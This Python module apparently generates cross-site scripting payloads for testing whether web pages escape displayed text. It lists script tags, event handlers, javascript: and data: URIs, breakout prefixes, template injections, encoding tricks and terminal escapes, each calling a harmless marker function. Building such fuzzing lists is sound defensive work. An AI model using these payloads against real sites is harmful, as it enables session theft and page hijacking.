"""What people have tried on web pages, for every field of text that a page shows.

Each payload calls `fired(n)`, if anything of it ever runs; `n` is its number. A page that takes
text as text shows it, and nothing fires.
"""

from __future__ import annotations

import itertools

# `{do}` is what is to run.
_ELEMENTS = (
    "<script>{do}</script>",
    "<ScRiPt>{do}</sCrIpT >",
    "<script\n>{do}//",
    "<scr<script>ipt>{do}</scr</script>ipt>",
    "<script src=data:text/javascript,{do}></script>",
    "<img src=x onerror={do}>",
    '<img src="x" onerror="{do}">',
    "<img src=x onerror\n=\n{do}>",
    "<img/src=x/onerror={do}//>",
    "<IMG SRC=javascript:{do}>",
    "<img srcset=x onerror={do}>",
    "<image src=x onerror={do}>",
    "<svg onload={do}>",
    "<svg/onload={do}//",
    "<svg><script>{do}</script></svg>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{do}><text y=20>x</text></a></svg>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={do}>#x">',
    "<svg><foreignObject><body onload={do}></foreignObject></svg>",
    "<math><mtext><img src=x onerror={do}></mtext></math>",
    '<math href="javascript:{do}">x</math>',
    "<body onload={do}>",
    "<body onpageshow={do}>",
    "<iframe src=javascript:{do}></iframe>",
    '<iframe srcdoc="<script>parent.{do}</script>"></iframe>',
    "<iframe onload={do}></iframe>",
    "<object data=javascript:{do}>",
    "<embed src=javascript:{do}>",
    "<video><source onerror={do}></video>",
    "<video src=x onerror={do}></video>",
    "<audio src=x onerror={do}>",
    "<input autofocus onfocus={do}>",
    "<select autofocus onfocus={do}><option>x</select>",
    "<textarea autofocus onfocus={do}></textarea>",
    "<button autofocus onfocus={do}>x</button>",
    "<details open ontoggle={do}>x</details>",
    "<marquee onstart={do}>x</marquee>",
    "<form action=javascript:{do}><input type=submit autofocus></form>",
    "<isindex action=javascript:{do} type=image>",
    "<a href=javascript:{do}>x</a>",
    '<a href="jAvAsCrIpT&colon;{do}">x</a>',
    '<a href="java\tscript:{do}">x</a>',
    '<a href=" &#14; javascript:{do}">x</a>',
    "<a href=data:text/html,<script>{do}</script>>x</a>",
    "<link rel=stylesheet href=javascript:{do}>",
    '<link rel=import href="data:text/html,<script>{do}</script>">',
    '<meta http-equiv=refresh content="0;url=javascript:{do}">',
    "<base href=javascript:{do}//>",
    "<style>@import 'javascript:{do}';</style>",
    "<style onload={do}></style>",
    '<div style="width:expression({do})">x</div>',
    '<div style="background:url(javascript:{do})">x</div>',
    "<div onmouseover={do}>x</div>",
    "<template><script>{do}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={do}>'>",
    "<xmp><p title='</xmp><img src=x onerror={do}>'>",
    "<title><img title='</title><img src=x onerror={do}>'>",
    "<!--><img src=x onerror={do}>-->",
    "<!--[if IE]><script>{do}</script><![endif]-->",
    "<?xml version=1.0?><script>{do}</script>",
    "<![CDATA[<script>{do}</script>]]>",
)
# What gets out of where the text stands.
_WAYS_OUT = ("", '">', "'>", "</textarea>", "</title></style></script>", "--></noscript>")
_OTHERS = (
    "javascript:{do}",
    "JaVaScRiPt:{do}",
    "java\tscript:{do}",
    "data:text/html,<script>{do}</script>",
    "vbscript:{do}",
    '" onmouseover="{do}" autofocus onfocus="{do}',
    "' onfocus='{do}' autofocus='",
    "` onerror=`{do}`",
    "{{{{constructor.constructor('{do}')()}}}}",
    "${{{do}}}",
    "#{{{do}}}",
    "<%= {do} %>",
    "';{do};'",
    '";{do};"',
    "\\';{do};//",
    "\u2028{do}\u2029",
    "\u202e<script>{do}</script>",
    "＜script＞{do}＜/script＞",
    "+ADw-script+AD4-{do}+ADw-/script+AD4-",
    "&lt;script&gt;{do}&lt;/script&gt;",
    "&#60;script&#62;{do}&#60;/script&#62;",
    "%3Cscript%3E{do}%3C/script%3E",
    "\\u003cscript\\u003e{do}\\u003c/script\\u003e",
    "[x](javascript:{do})",
    "![x](javascript:{do})",
    "<javascript:{do}>",
    '[x](http://x "onerror={do}")',
    "[x]: javascript:{do}",
    "```html\n<script>{do}</script>\n```",
    "__proto__",
    "constructor",
    "toString",
    "innerHTML",
    "dangerouslySetInnerHTML",
    '{{"__html": "<img src=x onerror={do}>"}}',
    "\x1b[31m<script>{do}</script>\x1b[0m",
    "\x1b]8;;javascript:{do}\x07x\x1b]8;;\x07",
    "\x1b]8;;data:text/html,<script>{do}</script>\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]0;<script>{do}</script>\x07",
    '\x1b[38;2;1;2;3";background:url(javascript:{do})m',
    "\x9b31m<img src=x onerror={do}>",
)


def payloads(least: int = 200) -> list[str]:
    """Return at least so many payloads, each another one; the n-th calls `fired(n)`."""
    found = [*_OTHERS, *_ELEMENTS]
    # Each way out with the elements, a few at a time, until there are enough.
    rest = (way + element for way, element in itertools.product(_WAYS_OUT[1:], _ELEMENTS))
    found += itertools.islice(rest, max(0, least - len(found)))
    return [text.format(do=f"fired({n})") for n, text in enumerate(found)]
